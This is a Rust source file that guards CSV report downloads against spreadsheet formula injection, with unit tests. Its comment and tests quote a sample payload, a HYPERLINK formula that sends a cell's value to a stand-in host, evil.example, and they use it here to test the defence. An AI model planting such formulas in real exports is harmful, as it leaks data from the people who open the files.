//! CSV downloads whose cells cannot run in a spreadsheet (docs/security.md#csv-downloads).
//!
//! Excel, Numbers and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a
//! formula (and one that begins with a tab or carriage return, after trimming it, too), so a
//! link title such as `=HYPERLINK("http://evil.example/"&A1,"Click")` typed by an influencer
//! would run on the merchant's machine when the report is opened. Every cell goes through
//! [`cell`], which puts a `'` before such a text (OWASP's rule; spreadsheets show the text
//! as it was typed and do not evaluate it). A plain number such as `-12.50` stays a number: it
//! is not a formula, and the report's amounts must stay summable.
//!
//! Quoting (commas, quotes, line breaks) is the `csv` crate's, so the file reads back with any
//! standard reader.

use std::borrow::Cow;

use crate::error::{AppError, AppResult};

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a cell no spreadsheet evaluates: unchanged unless it starts like a formula and is
/// not a plain number, else with a `'` in front.
pub fn cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(text) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// `-12`, `+3.50`: an optional sign, digits, and at most one decimal point between digits.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(fraction)
}

/// A CSV file being written row by row, every cell passed through [`cell`].
pub struct CsvFile {
    out: csv::Writer<Vec<u8>>,
}

impl Default for CsvFile {
    fn default() -> Self {
        Self { out: csv::Writer::from_writer(Vec::new()) }
    }
}

impl CsvFile {
    /// Appends one row.
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> AppResult<()> {
        let cells: Vec<Cow<'a, str>> = cells.into_iter().map(cell).collect();
        self.out.write_record(cells.iter().map(|c| c.as_bytes())).map_err(|e| AppError::Internal(e.into()))
    }

    /// The file's text.
    pub fn finish(self) -> AppResult<String> {
        let bytes = self.out.into_inner().map_err(|e| AppError::Internal(anyhow::anyhow!("csv: {e}")))?;
        String::from_utf8(bytes).map_err(|e| AppError::Internal(e.into()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_neutralised_and_numbers_kept() {
        for formula in
            ["=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+"]
        {
            assert_eq!(cell(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in ["#1001", "Summer look", "", "12.50", "-12.50", "+3", "0", "a=b", " =1"] {
            assert_eq!(cell(kept), kept, "{kept:?}");
        }
        for not_number in ["-1.", "-.5", "-1.2.3", "-1e5", "-0x10"] {
            assert!(cell(not_number).starts_with('\''), "{not_number:?}");
        }
    }

    #[test]
    fn a_file_reads_back_with_the_neutralised_cells() {
        let mut file = CsvFile::default();
        file.row(["Order", "Link", "Total"]).expect("row");
        file.row(["=1+1", "a, \"b\"\nc", "-5.00"]).expect("row");
        let text = file.finish().expect("csv");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("read");
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].iter().collect::<Vec<_>>(), ["'=1+1", "a, \"b\"\nc", "-5.00"]);
    }
}
